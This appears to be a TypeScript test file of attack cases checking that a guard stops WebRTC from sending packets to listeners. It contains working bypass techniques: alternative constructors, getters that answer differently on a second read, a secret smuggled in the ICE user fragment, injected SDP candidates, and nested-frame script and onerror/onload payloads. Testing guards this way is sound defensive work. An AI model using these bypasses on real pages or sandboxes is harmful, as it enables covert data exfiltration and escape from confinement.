import type { Attack } from './attack';

/*
 * Attempts to let WebRTC send packets to the listeners: through ICE servers, and through candidates with a secret in the
 * user fragment.
 */

export const WEBRTC_ATTACKS: readonly Attack[] = [
  {
    name: 'a STUN and a TURN server',
    run: async ({ address, udpPort, turnPort }) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${address}:${udpPort}` },
          { urls: `turn:${address}:${turnPort}?transport=tcp`, username: 'secret', credential: 'x' },
        ],
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
    arrives: ['udp'],
  },
  {
    name: 'a STUN server by a later configuration',
    run: async ({ address, udpPort }) => {
      const connection = new RTCPeerConnection();
      connection.setConfiguration({ iceServers: [{ urls: `stun:${address}:${udpPort}` }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
    arrives: ['udp'],
  },
  {
    name: 'the constructor by other ways',
    run: async ({ address, udpPort }) => {
      type Constructor = typeof RTCPeerConnection;
      const configuration = { iceServers: [{ urls: `stun:${address}:${udpPort}` }] };
      const { webkitRTCPeerConnection: alias } = window as unknown as {
        webkitRTCPeerConnection?: Constructor;
      };
      class Subclass extends RTCPeerConnection {}
      const ways: (() => RTCPeerConnection)[] = [
        () => new (RTCPeerConnection.prototype.constructor as Constructor)(configuration),
        () => new (alias as Constructor)(configuration),
        () => new Subclass(configuration),
        () => new (Object.getPrototypeOf(Subclass) as Constructor)(configuration),
        () => Reflect.construct(RTCPeerConnection, [configuration], Object) as RTCPeerConnection,
      ];
      const { createDataChannel, setLocalDescription } = RTCPeerConnection.prototype;
      for (const make of ways) {
        try {
          const connection = make();
          createDataChannel.call(connection, 'x');
          await Reflect.apply(setLocalDescription, connection, []);
        } catch {
          // a way that is closed altogether
        }
      }
      return new Promise((resolve) => setTimeout(resolve, 900, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
  {
    name: 'replacing the guarded constructor',
    run: () => {
      'use strict';
      try {
        Object.defineProperty(window, 'RTCPeerConnection', { value: 1 });
        return 'replaced';
      } catch (error) {
        return (error as Error).name;
      }
    },
    outcome: 'TypeError',
  },
  {
    // Works on a guard that reads twice: on an ordinary page there is none, and nothing arrives.
    name: 'a configuration whose getters change their answer',
    run: async ({ address, udpPort }) => {
      let reads = 0;
      const configuration = {
        get iceServers() {
          return reads++ === 0 ? [] : [{ urls: `stun:${address}:${udpPort}` }];
        },
      };
      const connection = new RTCPeerConnection(configuration);
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
  },
  {
    name: 'a candidate with a secret in the user fragment',
    run: async ({ address, udpPort }, _, { answerTo }) => {
      const connection = new RTCPeerConnection();
      const sdp = await answerTo(connection);
      await connection.setRemoteDescription({ type: 'answer', sdp });
      let reads = 0;
      const local = 'candidate:1 1 udp 1 01234567-89ab-cdef-0123-456789abcdef.local 9 typ host';
      const foreign = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.addIceCandidate({ candidate: foreign, sdpMid: '0' });
      await connection.addIceCandidate({
        get candidate() {
          return reads++ === 0 ? local : foreign;
        },
        sdpMid: '0',
      });
      const add = connection.addIceCandidate as (...args: unknown[]) => unknown;
      add.call(
        connection,
        new RTCIceCandidate({ candidate: foreign, sdpMid: '0' }),
        () => undefined,
        () => undefined,
      );
      return new Promise((resolve) => setTimeout(resolve, 1200, 'added'));
    },
    outcome: 'added',
    arrives: ['udp'],
  },
  {
    name: 'a candidate inside a description',
    run: async ({ address, udpPort }, _, { answerTo }) => {
      const connection = new RTCPeerConnection();
      const sdp = await answerTo(connection);
      const line = `a=candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.setRemoteDescription({ type: 'answer', sdp: `${sdp}${line}\r\n` });
      return new Promise((resolve) => setTimeout(resolve, 1200, 'set'));
    },
    outcome: 'set',
    arrives: ['udp'],
  },
  {
    name: 'a fresh realm: an empty nested frame',
    run: ({ address, udpPort }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const realm = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
      const connection = new realm.RTCPeerConnection({
        iceServers: [{ urls: `stun:${address}:${udpPort}` }],
      });
      connection.createDataChannel('x');
      return connection.setLocalDescription();
    },
    outcome: 'TypeError', // there is no frame
  },
  {
    name: 'a fresh realm: scripts in nested documents',
    run: ({ address, udpPort }) => {
      const attack = `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${address}:${udpPort}' }] });
        c.createDataChannel('x'); c.setLocalDescription(); parent.postMessage('nested script ran', '*');`;
      const blob = URL.createObjectURL(new Blob([attack], { type: 'text/javascript' }));
      const close = '</' + 'script>';
      const handler = attack.replaceAll('"', '&quot;').replaceAll('\n', ' ');
      const documents = [
        `<script>${attack}${close}`,
        `<script src="${blob}">${close}`,
        `<script type="module" src="${blob}">${close}`,
        `<img src="x" onerror="${handler}">`,
        `<svg onload="${handler}"></svg>`,
      ];
      return new Promise((resolve) => {
        addEventListener('message', ({ data }) => data === 'nested script ran' && resolve(data));
        for (const srcdoc of documents)
          document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
        const src = `javascript:${attack}`;
        document.body.append(Object.assign(document.createElement('iframe'), { src }));
        const page = URL.createObjectURL(new Blob([documents[0]!], { type: 'text/html' }));
        document.body.append(Object.assign(document.createElement('iframe'), { src: page }));
        setTimeout(resolve, 1500, 'no script ran');
      });
    },
    outcome: 'no script ran',
    arrives: ['udp'],
  },
];
